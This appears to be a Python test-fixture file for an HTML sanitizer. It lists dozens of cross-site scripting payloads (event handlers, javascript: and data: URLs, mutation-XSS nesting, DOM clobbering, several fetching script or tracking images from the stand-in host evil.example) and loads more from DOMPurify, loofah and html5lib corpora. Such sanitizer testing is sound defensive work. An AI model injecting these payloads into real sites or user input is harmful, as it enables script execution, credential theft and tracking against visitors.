"""HTML that tries to run something: our own, and that of the corpora."""
import json
import os
import pathlib
import re

import product

OURS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\" &#1;java\tscript&colon;alert(1)\">b</a>",
    "<a href=\"JaVaScRiPt&NewLine;:alert(1)\">c</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
    "<a href=\"vbscript:msgbox(1)\">e</a>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:parent.alert(1)\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\"><a href=x>f</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\" form=x>go</button><form id=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/y)}</style>",
    "<div style=\"background:url('javascript:alert(1)')\">g</div>",
    "<div style=\"background-image:url(//evil.example/track.png)\">h</div>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<img src=http://evil.example/pixel.gif srcset=\"http://evil.example/2.gif 2x\">",
    "<picture><source srcset=http://evil.example/3.gif><img></picture>",
    "<table background=http://evil.example/4.gif><tr><td background=http://evil.example/5.gif></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>i</x>",
    "<p id=cookie name=body>j</p><form name=attributes><input name=parentNode></form>",
    "\u0000<\u0000script>alert(1)</script>",
    "<a target=_top href=//evil.example onmouseover=alert(1)>k</a>",
]


def corpora():
    return pathlib.Path(os.environ.get("ENSEMBLE_CORPORA", product.ROOT / "../shared/corpora"))


def of_dompurify():
    return [case["payload"] for case in json.loads((corpora() / "dompurify/expect.json").read_text())]


def of_loofah():
    """JSON with comments; each has one input."""
    text = (corpora() / "xss-loofah/testdata_sanitizer_tests1.dat").read_text()
    inputs = re.findall(r'"input":\s*("(?:[^"\\]|\\.)*")', text)
    return [json.loads(quoted, strict=False) for quoted in inputs] + [
        (corpora() / "xss-loofah/msword.html").read_text(errors="replace")]


def of_html5lib():
    """The tree-construction inputs: not meant to harm, but hard to read."""
    found = []
    for path in sorted((corpora() / "html5lib-tests/tree-construction").glob("*.dat")):
        for case in path.read_text(errors="replace").split("#data\n")[1:]:
            found.append(case.split("\n#errors")[0])
    return found
